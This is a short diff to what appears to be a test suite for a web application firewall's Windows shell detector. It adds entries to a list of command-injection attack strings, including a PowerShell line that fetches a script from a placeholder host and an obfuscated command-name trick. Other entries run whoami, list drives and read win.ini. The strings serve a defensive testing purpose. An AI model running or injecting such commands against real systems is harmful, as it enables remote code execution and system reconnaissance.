@@ -5,6 +5,8 @@ import { detectWindowsShell } from "../../../../../runtime/primitives/waf/detect
 import { scaled } from "../../../../helpers/scale.ts";
 
 const ATTACKS = [
+  "& powershell irm http://a.example/b.ps1",
+  "|%ProgramData:~0,1%md",
   "& dir c:\\",
   "| type %SYSTEMROOT%\\win.ini",
   "cmd.exe /c whoami",
